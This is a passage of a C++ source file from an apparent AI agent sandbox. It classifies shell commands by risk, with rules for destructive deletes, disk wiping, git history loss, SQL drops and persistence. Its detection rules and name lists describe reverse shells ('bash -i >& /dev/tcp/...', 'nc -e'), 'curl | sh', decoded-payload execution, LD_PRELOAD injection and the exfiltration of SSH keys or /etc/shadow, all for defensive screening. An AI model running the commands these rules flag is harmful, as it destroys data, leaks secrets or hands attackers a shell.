#include "core/safety/SafetyRules.h"

#include "core/CoreTr.h"
#include "core/safety/CommandOptions_p.h"
#include "core/safety/CommandUnwrapper.h"
#include "core/safety/EmbeddedCommands_p.h"
#include "core/safety/InterpreterArgs_p.h"
#include "core/safety/PathClassifier_p.h"
#include "core/safety/ShellLexer.h"
#include "core/safety/SqlScanner_p.h"

#include <QDir>
#include <QRegularExpression>
#include <QSet>

namespace Terrarium::Core {

namespace {

using Invocation = CommandUnwrapper::Invocation;
using Via = CommandUnwrapper::Via;
using PathKind = PathClassifier::Kind;

enum class Level { None, Medium, High, Critical };

enum class Rule {
    RootDelete,
    HomeDelete,
    SystemPathDelete,
    SystemFileDelete,
    RecursiveDelete,
    SecureErase,
    DiskWipe,
    PartitionTable,
    Mkfs,
    DdDevice,
    DeviceWrite,
    SystemFileWrite,
    WorldWritableChmod,
    SetuidChmod,
    SystemPermissionChange,
    ChownRoot,
    RecursiveChown,
    ServiceStop,
    SystemShutdown,
    KillAll,
    ForkBomb,
    RemoteCode,
    ObfuscatedCode,
    FindDelete,
    XargsDelete,
    SqlDrop,
    SqlTruncate,
    SqlDeleteAll,
    GitForcePush,
    GitResetHard,
    GitClean,
    GitPushDelete,
    GitReflogExpire,
    TooComplex,
    UnknownProgram,
    WriteThenRun,
    OtherUser,
    RemoteHost,
    SandboxEscape,
    OptionExec,
    ArchiveOverSystem,
    Persistence,
    RawSocket,
    ReverseShell,
    SecretExfiltration,
    EnvInjection,
};

QString ruleId(Rule rule)
{
    switch (rule) {
    case Rule::RootDelete:
        return QStringLiteral("root-delete");
    case Rule::HomeDelete:
        return QStringLiteral("home-delete");
    case Rule::SystemPathDelete:
        return QStringLiteral("system-path-delete");
    case Rule::SystemFileDelete:
        return QStringLiteral("system-file-delete");
    case Rule::RecursiveDelete:
        return QStringLiteral("recursive-delete");
    case Rule::SecureErase:
        return QStringLiteral("secure-erase");
    case Rule::DiskWipe:
        return QStringLiteral("disk-wipe");
    case Rule::PartitionTable:
        return QStringLiteral("partition-table");
    case Rule::Mkfs:
        return QStringLiteral("mkfs");
    case Rule::DdDevice:
        return QStringLiteral("dd-device");
    case Rule::DeviceWrite:
        return QStringLiteral("device-write");
    case Rule::SystemFileWrite:
        return QStringLiteral("system-file-write");
    case Rule::WorldWritableChmod:
        return QStringLiteral("world-writable-chmod");
    case Rule::SetuidChmod:
        return QStringLiteral("setuid-chmod");
    case Rule::SystemPermissionChange:
        return QStringLiteral("system-permission-change");
    case Rule::ChownRoot:
        return QStringLiteral("chown-root");
    case Rule::RecursiveChown:
        return QStringLiteral("recursive-chown");
    case Rule::ServiceStop:
        return QStringLiteral("service-stop");
    case Rule::SystemShutdown:
        return QStringLiteral("system-shutdown");
    case Rule::KillAll:
        return QStringLiteral("kill-all");
    case Rule::ForkBomb:
        return QStringLiteral("fork-bomb");
    case Rule::RemoteCode:
        return QStringLiteral("remote-code");
    case Rule::ObfuscatedCode:
        return QStringLiteral("obfuscated-code");
    case Rule::FindDelete:
        return QStringLiteral("find-delete");
    case Rule::XargsDelete:
        return QStringLiteral("xargs-delete");
    case Rule::SqlDrop:
        return QStringLiteral("sql-drop");
    case Rule::SqlTruncate:
        return QStringLiteral("sql-truncate");
    case Rule::SqlDeleteAll:
        return QStringLiteral("sql-delete-all");
    case Rule::GitForcePush:
        return QStringLiteral("git-force-push");
    case Rule::GitResetHard:
        return QStringLiteral("git-reset-hard");
    case Rule::GitClean:
        return QStringLiteral("git-clean");
    case Rule::GitPushDelete:
        return QStringLiteral("git-push-delete");
    case Rule::GitReflogExpire:
        return QStringLiteral("git-reflog-expire");
    case Rule::TooComplex:
        return QStringLiteral("too-complex");
    case Rule::UnknownProgram:
        return QStringLiteral("unknown-program");
    case Rule::WriteThenRun:
        return QStringLiteral("write-then-run");
    case Rule::OtherUser:
        return QStringLiteral("other-user");
    case Rule::RemoteHost:
        return QStringLiteral("remote-host");
    case Rule::SandboxEscape:
        return QStringLiteral("sandbox-escape");
    case Rule::OptionExec:
        return QStringLiteral("option-exec");
    case Rule::ArchiveOverSystem:
        return QStringLiteral("archive-over-system");
    case Rule::Persistence:
        return QStringLiteral("persistence");
    case Rule::RawSocket:
        return QStringLiteral("raw-socket");
    case Rule::ReverseShell:
        return QStringLiteral("reverse-shell");
    case Rule::SecretExfiltration:
        return QStringLiteral("secret-exfiltration");
    case Rule::EnvInjection:
        return QStringLiteral("env-injection");
    }
    return {};
}

QString ruleReason(Rule rule)
{
    switch (rule) {
    case Rule::RootDelete:
        return Tr::tr("Deletes the root file system (rm /)");
    case Rule::HomeDelete:
        return Tr::tr("Deletes or replaces the whole home directory");
    case Rule::SystemPathDelete:
        return Tr::tr("Deletes a system directory such as /etc, /usr or /var");
    case Rule::SystemFileDelete:
        return Tr::tr("Deletes or moves files inside a system directory");
    case Rule::RecursiveDelete:
        return Tr::tr("Deletes files recursively (rm -r)");
    case Rule::SecureErase:
        return Tr::tr("Overwrites files so they cannot be recovered (shred)");
    case Rule::DiskWipe:
        return Tr::tr("Wipes a disk or its file system signatures");
    case Rule::PartitionTable:
        return Tr::tr("Changes a disk's partition table");
    case Rule::Mkfs:
        return Tr::tr("Formats a file system (mkfs)");
    case Rule::DdDevice:
        return Tr::tr("Writes raw data to a disk device with dd");
    case Rule::DeviceWrite:
        return Tr::tr("Writes directly to a disk device");
    case Rule::SystemFileWrite:
        return Tr::tr("Writes to system files (/etc, /boot, /usr, ...)");
    case Rule::WorldWritableChmod:
        return Tr::tr("Makes files writable by every user (chmod 777 / o+w)");
    case Rule::SetuidChmod:
        return Tr::tr("Sets the setuid or setgid bit");
    case Rule::SystemPermissionChange:
        return Tr::tr("Recursively changes permissions or owners of / or a system directory");
    case Rule::ChownRoot:
        return Tr::tr("Gives files to root (chown root)");
    case Rule::RecursiveChown:
        return Tr::tr("Changes owners recursively (chown -R)");
    case Rule::ServiceStop:
        return Tr::tr("Stops, disables or masks a system service");
    case Rule::SystemShutdown:
        return Tr::tr("Shuts down or reboots the system");
    case Rule::KillAll:
        return Tr::tr("Kills every process, or init");
    case Rule::ForkBomb:
        return Tr::tr("Fork bomb: starts processes until the system runs out");
    case Rule::RemoteCode:
        return Tr::tr("Runs code downloaded from the network (curl | sh)");
    case Rule::ObfuscatedCode:
        return Tr::tr("Runs encoded or obfuscated code (base64 -d | sh)");
    case Rule::FindDelete:
        return Tr::tr("Deletes whatever find matches (find -delete / -exec rm)");
    case Rule::XargsDelete:
        return Tr::tr("Deletes files named on standard input (xargs rm)");
    case Rule::SqlDrop:
        return Tr::tr("Drops a database, schema or table (SQL DROP)");
    case Rule::SqlTruncate:
        return Tr::tr("Empties a table (SQL TRUNCATE)");
    case Rule::SqlDeleteAll:
        return Tr::tr("Deletes every row of a table (SQL DELETE without WHERE)");
    case Rule::GitForcePush:
        return Tr::tr("Overwrites the remote's history (git push --force)");
    case Rule::GitResetHard:
        return Tr::tr("Throws away uncommitted changes (git reset --hard)");
    case Rule::GitClean:
        return Tr::tr("Deletes untracked files (git clean -f)");
    case Rule::GitPushDelete:
        return Tr::tr("Deletes a branch or tag on the remote (git push --delete)");
    case Rule::GitReflogExpire:
        return Tr::tr("Expires the reflog, the way back to lost commits (git reflog expire)");
    case Rule::TooComplex:
        return Tr::tr("Nests or expands too deeply to be checked completely");
    case Rule::UnknownProgram:
        return Tr::tr("Runs a program whose name is only known when the command runs "
                      "($(...), $VAR, arrays, code that builds the command)");
    case Rule::WriteThenRun:
        return Tr::tr("Runs a script that the same command line writes");
    case Rule::OtherUser:
        return Tr::tr("Runs a command as another user (pkexec, runuser, setpriv)");
    case Rule::RemoteHost:
        return Tr::tr("Runs commands on another host (ssh)");
    case Rule::SandboxEscape:
        return Tr::tr("Runs a command on the host, outside the sandbox (flatpak-spawn --host)");
    case Rule::OptionExec:
        return Tr::tr("An option makes the program run another command (git alias '!', "
                      "tar --checkpoint-action=exec)");
    case Rule::ArchiveOverSystem:
        return Tr::tr("Extracts an archive over / or a system directory (tar -C /)");
    case Rule::Persistence:
        return Tr::tr("Installs something that runs later on its own (shell start-up file, "
                      "crontab, user service)");
    case Rule::RawSocket:
        return Tr::tr("Opens a network connection through /dev/tcp or /dev/udp");
    case Rule::ReverseShell:
        return Tr::tr("Connects a shell to the network (reverse shell: nc -e, socat exec:, "
                      "bash -i >& /dev/tcp/...)");
    case Rule::SecretExfiltration:
        return Tr::tr("Sends secrets (SSH keys, credentials, /etc/shadow) over the network");
    case Rule::EnvInjection:
        return Tr::tr("Sets a variable that loads code into the programs it starts "
                      "(LD_PRELOAD, LD_LIBRARY_PATH, BASH_ENV)");
    }
    return {};
}

Level defaultLevel(Rule rule)
{
    switch (rule) {
    case Rule::RootDelete:
    case Rule::HomeDelete:
    case Rule::SystemPathDelete:
    case Rule::DiskWipe:
    case Rule::PartitionTable:
    case Rule::Mkfs:
    case Rule::DdDevice:
    case Rule::DeviceWrite:
    case Rule::SystemPermissionChange:
    case Rule::KillAll:
    case Rule::ForkBomb:
        return Level::Critical;
    case Rule::RecursiveChown:
    case Rule::GitForcePush:
    case Rule::GitResetHard:
    case Rule::GitClean:
    case Rule::GitPushDelete:
    case Rule::GitReflogExpire:
    case Rule::WorldWritableChmod: // raised to high when recursive or on a system path
    case Rule::UnknownProgram:
    case Rule::WriteThenRun:
    case Rule::OtherUser:
    case Rule::RemoteHost:
    case Rule::OptionExec:
    case Rule::Persistence:
    case Rule::RawSocket:
    case Rule::EnvInjection:
        return Level::Medium;
    default:
        return Level::High;
    }
}

QString levelName(Level level)
{
    switch (level) {
    case Level::None:
        return {};
    case Level::Medium:
        return QStringLiteral("medium");
    case Level::High:
        return QStringLiteral("high");
    case Level::Critical:
        return QStringLiteral("critical");
    }
    return {};
}

bool isDeleter(const QString &name)
{
    return name == u"rm" || name == u"unlink" || name == u"shred" || name == u"srm";
}

bool isDownloader(const QString &name)
{
    static const QStringList names = {
        QStringLiteral("curl"),        QStringLiteral("wget"),  QStringLiteral("fetch"),
        QStringLiteral("http"),        QStringLiteral("https"), QStringLiteral("xh"),
        QStringLiteral("lwp-request"), QStringLiteral("GET"),   QStringLiteral("aria2c")};
    return names.contains(name);
}

bool isDecoder(const QStringList &words)
{
    const QString name = CommandUnwrapper::programName(words.first());
    const auto hasAny = [&words](std::initializer_list<QStringView> options) {
        for (const QString &w : words) {
            for (const QStringView option : options) {
                if (w == option)
                    return true;
            }
        }
        return false;
    };
    if (name == u"base64" || name == u"base32" || name == u"basenc") {
        for (const QString &w : words.mid(1)) {
            // -d, and clusters such as -di
            if (w.startsWith(u'-') && !w.startsWith(u"--") && w.contains(u'd'))
                return true;
        }
        return hasAny({u"--decode", u"-D"});
    }
    if (name == u"xxd")
        return hasAny({u"-r", u"-revert", u"-rp", u"-pr"});
    if (name == u"openssl")
        return hasAny({u"base64", u"enc"}) && hasAny({u"-d"});
    return name == u"rev" || name == u"uudecode";
}

// True when a pkill/killall pattern would match any process name.
bool matchesEveryProcess(const QString &pattern)
{
    const QRegularExpression re(pattern);
    if (!re.isValid())
        return false;
    static const QStringList samples = {
        QStringLiteral("init"), QStringLiteral("systemd"), QStringLiteral("bash"),
        QStringLiteral("sshd"), QStringLiteral("python3"), QStringLiteral("terrarium-agent"),
        QStringLiteral("Xorg"), QStringLiteral("x")};
    for (const QString &sample : samples) {
        if (!re.match(sample).hasMatch())
            return false;
    }
    return true;
}

// The last path component comes from an expansion ($(...), `...`, $x, ${x:1}): what runs is
// only known when the command runs. "$(npm bin)/eslint" still names eslint.
bool isDynamicName(const QString &word)
{
    bool dynamic = false;
    for (qsizetype i = 0; i < word.size(); ++i) {
        const QChar c = word.at(i);
        if (c == u'/') {
            dynamic = false;
        } else if (c == u'`') {
            dynamic = true;
            i = word.indexOf(u'`', i + 1);
            if (i < 0)
                return true;
        } else if (c == u'$' && i + 1 < word.size()) {
            const QChar next = word.at(i + 1);
            if (next == u'(' || next == u'{' || next == u'[') {
                const QChar close = next == u'(' ? u')' : next == u'{' ? u'}' : u']';
                int depth = 0;
                qsizetype j = i + 1;
                for (; j < word.size(); ++j) {
                    if (word.at(j) == next)
                        ++depth;
                    else if (word.at(j) == close && --depth == 0)
                        break;
                }
                if (j >= word.size())
                    return true;
                dynamic = true;
                i = j;
            } else if (next.isLetterOrNumber() || next == u'_'
                       || QStringView(u"@*#?$!-").contains(next)) {
                dynamic = true;
            }
        }
    }
    return dynamic;
}

bool isNetcat(const QString &name)
{
    return name == u"nc" || name == u"ncat" || name == u"netcat" || name == u"nc.traditional"
        || name == u"nc.openbsd" || name == u"socat" || name == u"telnet" || name == u"cryptcat";
}

// Programs that send what they are given to another machine.
bool isNetworkSender(const QString &name)
{
    static const QStringList names = {
        QStringLiteral("curl"), QStringLiteral("wget"),  QStringLiteral("scp"),
        QStringLiteral("sftp"), QStringLiteral("rsync"), QStringLiteral("ssh"),
        QStringLiteral("http"), QStringLiteral("https"), QStringLiteral("xh"),
        QStringLiteral("ftp"),  QStringLiteral("tftp"),  QStringLiteral("openssl"),
        QStringLiteral("mail"), QStringLiteral("mailx"), QStringLiteral("sendmail")};
    return isNetcat(name) || names.contains(name);
}

// scp/rsync operands naming another machine: host:path, user@host:path.
bool isRemoteOperand(const QString &operand)
{
    const qsizetype colon = operand.indexOf(u':');
    return colon > 0 && !operand.startsWith(u'/') && !operand.startsWith(u'.')
        && !operand.left(colon).contains(u'/');
}

struct CodeSources
{
    bool remote = false;
    bool decoded = false;
    CodeSources &operator|=(const CodeSources &other)
    {
        remote = remote || other.remote;
        decoded = decoded || other.decoded;
        return *this;
    }
};

class Assessor
{
public:
    explicit Assessor(const QString &command)
    {
        m_commands = ShellLexer::lex(command, &m_complete);
        m_children.resize(m_commands.size());
        for (int i = 0; i < m_commands.size(); ++i) {
            if (m_commands.at(i).parent >= 0)
                m_children[m_commands.at(i).parent].append(i);
        }
    }

    SafetyAssessment run()
    {
        for (int i = 0; i < m_commands.size(); ++i)
            assessCommand(i);
        // What could not be read cannot be vouched for.
        if (!m_complete)
            flag(Rule::TooComplex);
        SafetyAssessment result;
        result.risk = levelName(m_level);
        result.ruleIds = m_ids;
        result.reasons = m_reasons;
        return result;
    }

private:
    void flag(Rule rule, Level level = Level::None)
    {
        if (level == Level::None)
            level = defaultLevel(rule);
        const QString id = ruleId(rule);
        if (!m_ids.contains(id)) {
            m_ids.append(id);
            m_reasons.append(ruleReason(rule));
        }
        m_level = qMax(m_level, level);
    }

    PathKind kindOf(const QString &path) const
    {
        return PathClassifier::classify(PathClassifier::resolve(path, m_cwd));
    }

    void assessCommand(int index);
    void assessInvocation(const Invocation &invocation, bool findExecDeletes);
    void assessCodeSources(int index, const Invocation &invocation);
    void assessForkBomb(int index, const QList<Invocation> &invocations);
    void assessUnknownProgram(int index, const Invocation &invocation);
    void assessWrappers(const Invocation &invocation);
    void assessEnvironment(int index, const QList<Invocation> &invocations);
    void assessSockets(int index, const QList<Invocation> &invocations);
    void assessExfiltration(int index, const Invocation &invocation);
    void recordDownloadedOutput(int index, const QList<Invocation> &invocations);
    void trackDirectory(const QList<Invocation> &invocations);

    bool deleteTarget(const QString &path);
    void writeTarget(const QString &path);

    void assessRemove(const QStringList &words, Via via);
    void assessShred(const QStringList &words);
    void assessPartitioning(const QString &name, const QStringList &words);
    void assessDd(const QStringList &words);
    void assessCopy(const QString &name, const QStringList &words);
    void assessSed(const QStringList &words);
    void assessChmod(const QStringList &words);
    void assessChown(const QString &name, const QStringList &words);
    void assessService(const QString &name, const QStringList &words);
    void assessShutdown(const QString &name, const QStringList &words);
    void assessKill(const QString &name, const QStringList &words);
    void assessFind(const QStringList &words, bool execDeletes);
    void assessGit(const QStringList &words);
    void assessSql(int index, const QString &name, const QStringList &words);
    void assessExtract(const QString &name, const QStringList &words);
    void assessNetcat(const QString &name, const QStringList &words);
    void recordDownloads(const QString &name, const QStringList &words);

    CodeSources sourcesOf(int index) const;
    CodeSources subtreeSources(int index) const;
    CodeSources stdinSources(int index) const;
    bool printsShellSetup(int index) const;
    bool pipedWithNetcat(int index) const;
    bool mentionsSecret(const QString &word) const;
    bool readsSecrets(int index) const;
    QString writtenKey(const QString &path) const
    {
        return QDir::cleanPath(PathClassifier::resolve(path, m_cwd));
    }

    QList<ShellCommand> m_commands;
    bool m_complete = true;
    QList<QList<int>> m_children;
    // Working directory after the cd commands seen so far; empty when unknown.
    QString m_cwd;
    // Names of files the line downloads (curl -o x.sh): running them later is remote code.
    QSet<QString> m_downloads;
    // Files the commands so far wrote (echo > x.sh), and those the current command writes:
    // running them is write-then-run.
    QSet<QString> m_written;
    QSet<QString> m_pendingWrites;
    QStringList m_ids;
    QStringList m_reasons;
    Level m_level = Level::None;
};

void Assessor::assessCommand(int index)
{
    const ShellCommand &command = m_commands.at(index);
    for (const ShellRedirection &redirection : command.redirections) {
        if (redirection.writesFile())
            writeTarget(redirection.target);
    }
    const QList<Invocation> invocations = CommandUnwrapper::invocations(command.words);
    bool findExecDeletes = false;
    for (const Invocation &invocation : invocations) {
        findExecDeletes = findExecDeletes
            || (invocation.via == Via::FindExec
                && isDeleter(CommandUnwrapper::programName(invocation.words.first())));
    }
    for (const Invocation &invocation : invocations) {
        assessInvocation(invocation, findExecDeletes);
        assessCodeSources(index, invocation);
        assessSql(index, CommandUnwrapper::programName(invocation.words.first()), invocation.words);
        assessUnknownProgram(index, invocation);
        assessWrappers(invocation);
        assessExfiltration(index, invocation);
        for (const EmbeddedCommands::Command &embedded : EmbeddedCommands::find(invocation.words)) {
            if (embedded.viaOption)
                flag(Rule::OptionExec);
        }
    }
    assessEnvironment(index, invocations);
    assessSockets(index, invocations);
    recordDownloadedOutput(index, invocations);
    assessForkBomb(index, invocations);
    trackDirectory(invocations);
    // A command does not run what it writes itself; the next ones may.
    m_written.unite(m_pendingWrites);
    m_pendingWrites.clear();
}

void Assessor::assessInvocation(const Invocation &invocation, bool findExecDeletes)
{
    const QStringList &words = invocation.words;
    const QString name = CommandUnwrapper::programName(words.first());
    if (isDeleter(name)) {
        if (invocation.via == Via::Xargs)
            flag(Rule::XargsDelete);
        else if (invocation.via == Via::FindExec)
            flag(Rule::FindDelete);
    }

    if (name == u"rm" || name == u"unlink") {
        assessRemove(words, invocation.via);
    } else if (name == u"shred" || name == u"srm") {
        assessShred(words);
    } else if (name == u"wipefs") {
        const CommandOptions args = CommandOptions::parse(
            words, {u"otp", {QStringLiteral("offset"), QStringLiteral("types")}, {}});
        const bool erases =
            args.has(u'a') || args.hasLong(u"all") || args.has(u'o') || args.hasLong(u"offset");
        if (erases && !args.has(u'n') && !args.hasLong(u"no-act") && !args.operands.isEmpty())
            flag(Rule::DiskWipe);
    } else if (name == u"blkdiscard") {
        if (!CommandOptions::parse(words, {u"olp", {}, {}}).operands.isEmpty())
            flag(Rule::DiskWipe);
    } else if (name == u"fdisk" || name == u"gdisk" || name == u"cfdisk" || name == u"sfdisk"
               || name == u"sgdisk" || name == u"parted") {
        assessPartitioning(name, words);
    } else if (name.startsWith(u"mkfs") || name == u"mke2fs" || name == u"mkdosfs"
               || name == u"mkntfs" || name == u"mkexfatfs" || name == u"mformat") {
        if (!CommandOptions::parse(words).operands.isEmpty())
            flag(Rule::Mkfs);
    } else if (name == u"mkswap") {
        for (const QString &operand : CommandOptions::parse(words, {u"LUpe", {}, {}}).operands) {
            if (kindOf(operand) == PathKind::BlockDevice)
                flag(Rule::Mkfs);
        }
    } else if (name == u"dd") {
        assessDd(words);
    } else if (name == u"sudoedit") {
        for (const QString &operand :
             CommandOptions::parse(words, {u"ugCchDprtTUR", {}, {}}).operands)
            writeTarget(operand);
    } else if (name == u"tee") {
        for (const QString &operand : CommandOptions::parse(words).operands)
            writeTarget(operand);
    } else if (name == u"cp" || name == u"mv" || name == u"install" || name == u"ln"
               || name == u"rsync") {
        assessCopy(name, words);
    } else if (name == u"sed") {
        assessSed(words);
    } else if (name == u"truncate") {
        const CommandOptions args = CommandOptions::parse(
            words, {u"sr", {QStringLiteral("size"), QStringLiteral("reference")}, {}});
        for (const QString &operand : args.operands)
            writeTarget(operand);
    } else if (name == u"chmod") {
        assessChmod(words);
    } else if (name == u"chown" || name == u"chgrp") {
        assessChown(name, words);
    } else if (name == u"systemctl" || name == u"service" || name == u"invoke-rc.d"
               || name == u"rc-service" || name == u"update-rc.d"
               || PathClassifier::resolve(words.first(), {}).startsWith(u"/etc/init.d/")) {
        assessService(name, words);
    } else if (name == u"shutdown" || name == u"reboot" || name == u"halt" || name == u"poweroff"
               || name == u"init" || name == u"telinit" || name == u"kexec") {
        assessShutdown(name, words);
    } else if (name == u"kill" || name == u"killall5" || name == u"killall" || name == u"pkill") {
        assessKill(name, words);
    } else if (name == u"find") {
        assessFind(words, findExecDeletes);
    } else if (name == u"git") {
        assessGit(words);
    } else if (name == u"tar" || name == u"gtar" || name == u"bsdtar" || name == u"unzip") {
        assessExtract(name, words);
    } else if (name == u"crontab") {
        // Anything but listing, removing or testing installs a crontab.
        const CommandOptions args = CommandOptions::parse(words, {u"u", {}, {}});
        if (!args.has(u'l') && !args.has(u'r') && !args.has(u'T') && !args.has(u'V'))
            flag(Rule::Persistence);
    } else if (name == u"at" || name == u"batch") {
        const CommandOptions args = CommandOptions::parse(words, {u"fqt", {}, {}});
        if (!args.has(u'l') && !args.has(u'd') && !args.has(u'r') && !args.has(u'c')
            && !args.has(u'V'))
            flag(Rule::Persistence);
    } else if (isNetcat(name)) {
        assessNetcat(name, words);
    } else if (name == u"ssh") {
        const CommandOptions args =
            CommandOptions::parse(words, {u"BbcDEeFIiJLlmOoPpQRSWw", {}, {}});
        if (!args.operands.isEmpty() && !args.has(u'G') && !args.has(u'V') && !args.has(u'Q'))
            flag(Rule::RemoteHost);
    } else if (name == u"runuser") {
        flag(Rule::OtherUser); // runuser USER -c ...; the -u form is peeled as a wrapper
    }
}

bool Assessor::deleteTarget(const QString &path)
{
    switch (kindOf(path)) {
    case PathKind::Ordinary:
        return false;
    case PathKind::Root:
        flag(Rule::RootDelete);
        return true;
    case PathKind::Home:
        flag(Rule::HomeDelete);
        return true;
    case PathKind::SystemDir:
        flag(Rule::SystemPathDelete);
        return true;
    case PathKind::SystemFile:
    case PathKind::BlockDevice:
    case PathKind::PseudoDevice:
        flag(Rule::SystemFileDelete);
        return true;
    }
    return false;
}

void Assessor::writeTarget(const QString &path)
{
    if (path.isEmpty())
        return;
    m_pendingWrites.insert(writtenKey(path));
    const QString resolved = PathClassifier::resolve(path, m_cwd);
    if (PathClassifier::isAutostart(resolved))
        flag(Rule::Persistence);
    if (PathClassifier::classify(resolved) == PathKind::BlockDevice)
        flag(Rule::DeviceWrite);
    else if (resolved == u"/proc/sysrq-trigger")
        flag(Rule::SystemShutdown);
    else if (PathClassifier::isProtectedForWrites(resolved))
        flag(Rule::SystemFileWrite);
}

void Assessor::assessRemove(const QStringList &words, Via via)
{
    const CommandOptions args = CommandOptions::parse(words);
    const bool recursive = args.has(u'r') || args.has(u'R') || args.hasLong(u"recursive");
    bool specific = false;
    for (const QString &operand : args.operands)
        specific = deleteTarget(operand) || specific;
    if (args.hasLong(u"no-preserve-root")) {
        flag(Rule::RootDelete);
        specific = true;
    }
    // A bare "rm -rf" deletes nothing, unless xargs or find supply the names.
    const bool hasTargets = !args.operands.isEmpty() || via != Via::Direct;
    if (recursive && !specific && hasTargets)
        flag(Rule::RecursiveDelete);
}

void Assessor::assessShred(const QStringList &words)
{
    const CommandOptions args = CommandOptions::parse(
        words,
        {u"ns",
         {QStringLiteral("iterations"), QStringLiteral("size"), QStringLiteral("random-source")},
         {}});
    for (const QString &operand : args.operands) {
        if (operand == u"-")
            continue;
        if (kindOf(operand) == PathKind::BlockDevice)
            flag(Rule::DiskWipe);
        else
            flag(Rule::SecureErase);
    }
}

void Assessor::assessPartitioning(const QString &name, const QStringList &words)
{
    if (name == u"parted") {
        const CommandOptions args =
            CommandOptions::parse(words, {u"a", {QStringLiteral("align")}, {}});
        if (args.has(u'l') || args.hasLong(u"list") || args.operands.isEmpty())
            return;
        // parted DEVICE [commands]: only printing leaves the disk alone.
        static const QRegularExpression readOnly(
            QStringLiteral(
                "^(print|p|help|unit|free|all|list|devices|s|b|[kmgt]i?b|%|cyl|chs|compact)$"),
            QRegularExpression::CaseInsensitiveOption);
        const QStringList commands = args.operands.mid(1);
        bool onlyReads = !commands.isEmpty();
        for (const QString &command : commands)
            onlyReads = onlyReads && readOnly.match(command).hasMatch();
        if (!onlyReads)
            flag(Rule::PartitionTable);
        return;
    }
    if (name == u"sgdisk") {
        const CommandOptions args = CommandOptions::parse(words, {u"aAbcdhilmnrtuUx", {}, {}});
        bool onlyReads = true;
        for (const QChar option : args.shortFlags)
            onlyReads = onlyReads && QStringView(u"pvOLi").contains(option);
        static const QStringList readLongs = {QStringLiteral("print"), QStringLiteral("verify"),
                                              QStringLiteral("info"), QStringLiteral("print-mbr"),
                                              QStringLiteral("list-types")};
        for (auto it = args.longs.cbegin(); it != args.longs.cend(); ++it)
            onlyReads = onlyReads && readLongs.contains(it.key());
        if (!onlyReads && !args.operands.isEmpty())
            flag(Rule::PartitionTable);
        return;
    }
    const CommandOptions args = CommandOptions::parse(words, {u"bHSCtwWoNXYO", {}, {}});
    bool lists = args.has(u'l') || args.hasLong(u"list");
    if (name == u"sfdisk") {
        lists = lists || args.has(u'd') || args.has(u's') || args.has(u'V') || args.has(u'J')
            || args.has(u'g') || args.has(u'F') || args.has(u'r') || args.hasLong(u"dump")
            || args.hasLong(u"json") || args.hasLong(u"show-size") || args.hasLong(u"show-geometry")
            || args.hasLong(u"verify") || args.hasLong(u"list-free") || args.hasLong(u"list-types");
    }
    if (!lists && !args.operands.isEmpty())
        flag(Rule::PartitionTable);
}

void Assessor::assessDd(const QStringList &words)
{
    for (const QString &word : words.mid(1)) {
        if (!word.startsWith(u"of="))
            continue;
        const QString target = word.mid(3);
        if (kindOf(target) == PathKind::BlockDevice)
            flag(Rule::DdDevice);
        else
            writeTarget(target);
    }
}

void Assessor::assessCopy(const QString &name, const QStringList &words)
{
    CommandOptions::Spec spec{
        u"tS", {QStringLiteral("target-directory"), QStringLiteral("suffix")}, {}};
    if (name == u"install") {
        spec.shortWithValue = u"tSmog";
        spec.longWithValue << QStringLiteral("mode") << QStringLiteral("owner")
                           << QStringLiteral("group");
    } else if (name == u"rsync") {
        spec.shortWithValue = u"efBTM";
        spec.longWithValue = {QStringLiteral("exclude"),      QStringLiteral("include"),
                              QStringLiteral("exclude-from"), QStringLiteral("include-from"),
                              QStringLiteral("files-from"),   QStringLiteral("filter"),
                              QStringLiteral("rsh"),          QStringLiteral("rsync-path"),
                              QStringLiteral("temp-dir"),     QStringLiteral("compare-dest"),
                              QStringLiteral("copy-dest"),    QStringLiteral("link-dest"),
                              QStringLiteral("backup-dir"),   QStringLiteral("suffix"),
                              QStringLiteral("chmod"),        QStringLiteral("chown"),
                              QStringLiteral("log-file"),     QStringLiteral("password-file"),
                              QStringLiteral("partial-dir"),  QStringLiteral("timeout"),
                              QStringLiteral("bwlimit"),      QStringLiteral("max-size"),
                              QStringLiteral("min-size"),     QStringLiteral("port"),
                              QStringLiteral("out-format"),   QStringLiteral("max-delete")};
    }
    const CommandOptions args = CommandOptions::parse(words, spec);
    QStringList destinations = args.values(u't') + args.longValues(u"target-directory");
    QStringList sources = args.operands;
    if (name == u"install" && args.has(u'd')) {
        destinations += args.operands; // install -d: every operand is a directory to create
        sources.clear();
    } else if (destinations.isEmpty() && args.operands.size() >= 2) {
        destinations.append(sources.takeLast());
    }
    bool rsyncDeletes = false;
    for (auto it = args.longs.cbegin(); it != args.longs.cend() && name == u"rsync"; ++it)
        rsyncDeletes = rsyncDeletes || it.key().startsWith(u"del");
    for (const QString &destination : std::as_const(destinations)) {
        // host:path is on another machine.
        if (name == u"rsync" && destination.contains(u':') && !destination.startsWith(u'/'))
            continue;
        writeTarget(destination);
        if (rsyncDeletes) {
            // rsync --delete makes the destination a copy of the source: what was there goes.
            switch (kindOf(destination)) {
            case PathKind::Root:
                flag(Rule::RootDelete);
                break;
            case PathKind::Home:
                flag(Rule::HomeDelete);
                break;
            case PathKind::SystemDir:
                flag(Rule::SystemPathDelete);
                break;
            default:
                break;
            }
        }
    }
    if (name == u"mv" || (name == u"rsync" && args.hasLong(u"remove-source-files"))) {
        for (const QString &source : std::as_const(sources))
            deleteTarget(source);
    }
}

void Assessor::assessSed(const QStringList &words)
{
    const CommandOptions args = CommandOptions::parse(
        words,
        {u"efl",
         {QStringLiteral("expression"), QStringLiteral("file"), QStringLiteral("line-length")},
         {}});
    if (!args.has(u'i') && !args.hasLong(u"in-place"))
        return;
    const bool scriptInOption = args.shortValues.contains(u'e') || args.shortValues.contains(u'f')
        || args.hasLong(u"expression") || args.hasLong(u"file");
    const QStringList files = scriptInOption ? args.operands : args.operands.mid(1);
    for (const QString &file : files)
        writeTarget(file);
}

void Assessor::assessChmod(const QStringList &words)
{
    bool recursive = false;
    bool reference = false;
    bool endOfOptions = false;
    QString mode;
    QStringList targets;
    static const QRegularExpression optionCluster(QStringLiteral("^-[Rcfv]+$"));
    for (const QString &w : words.mid(1)) {
        if (!endOfOptions && w == u"--") {
            endOfOptions = true;
        } else if (!endOfOptions && w.startsWith(u"--")) {
            const QString name = w.mid(2).section(u'=', 0, 0);
            recursive = recursive || QStringView(u"recursive").startsWith(name);
            reference = reference || name == u"reference";
        } else if (!endOfOptions && optionCluster.match(w).hasMatch()) {
            recursive = recursive || w.contains(u'R');
        } else if (mode.isEmpty() && !reference) {
            mode = w; // "-w" is a mode too
        } else {
            targets.append(w);
        }
    }

    bool worldWritable = false;
    bool setuid = false;
    bool setgid = false;
